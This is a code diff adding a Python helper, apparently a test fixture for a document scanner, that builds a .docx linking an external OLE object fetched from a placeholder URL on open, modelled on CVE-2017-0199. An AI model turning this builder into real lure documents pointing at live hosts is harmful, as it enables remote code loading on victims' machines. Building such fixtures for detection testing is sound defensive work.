@@ -100,6 +100,21 @@ def remote_template_docx(url: str = "https://example.com/templates/invoice.dotm"
     return _docx("<w:p><w:r><w:t>Loading template...</w:t></w:r></w:p>", settings, rels)
 
 
+def external_object_docx(url: str = "https://example.com/objects/report.rtf") -> bytes:
+    """A .docx whose body links an OLE object fetched from ``url`` at open (CVE-2017-0199
+    shape)."""
+    buf = io.BytesIO(_docx("<w:p><w:r><w:t>Chart:</w:t></w:r></w:p>"))
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/oleObject" Target="{url}" TargetMode="External"/></Relationships>'
+    )
+    with zipfile.ZipFile(buf, "a") as zf:
+        zf.writestr("word/_rels/document.xml.rels", rels)
+    return buf.getvalue()
+
+
 def local_template_docx() -> bytes:
     """A .docx attached to the user's own Normal.dotm (what Word writes every day)."""
     settings = (
